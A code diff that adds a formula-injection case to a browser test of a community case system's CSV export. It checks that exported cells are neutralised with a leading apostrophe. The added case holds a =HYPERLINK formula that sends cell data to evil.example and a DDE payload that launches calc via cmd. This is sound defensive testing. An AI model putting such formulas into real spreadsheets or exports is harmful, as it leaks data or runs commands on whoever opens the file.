@@ -539,6 +539,8 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
 
   it('exports the filtered subtree as a CSV for the monthly report, without the reporter\'s details', async () => {
     const filed = await fileCase({ title: '宠物噪音扰邻', description: '邻居家的狗夜间吠叫。', reporter: { name: '卫女士', phone: '13912340041' }, location: { unitId: 'hp-xf-cy-1' } });
+    // A description written as a spreadsheet formula, as an attacker would send it.
+    const formula = await fileCase({ title: '=HYPERLINK("http://evil.example/?x="&A1,"详情")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', location: { unitId: 'hp-xf-cy-1' } });
     const p = await page();
     await signIn(p, stack.url, 'community-mediator', stack.password);
     await p.goto(`${stack.url}/admin/#/cases?center=mediation`);
@@ -560,6 +562,9 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(row).toContain(',12345 热线,民事调解,宠物噪音扰邻,邻居家的狗夜间吠叫。,和平街道 幸福社区 翠苑小区 1栋,和平街道 幸福社区 翠苑小区 1栋,楼栋,待签收,');
     expect(text).not.toContain('13912340041');
     expect(text).not.toContain('卫女士');
+    // Neutralised: the cells start with ', so Excel and WPS show them as text and run nothing.
+    const neutralised = lines.find((l) => l.startsWith(`${formula.trackingNo},`));
+    expect(neutralised).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""详情"")",'@SUM(1+1)*cmd|' /C calc'!A0,`);
   });
 
   it('a resident follows the link in the receipt, enters the 提取码 and sees the progress on a phone', async () => {
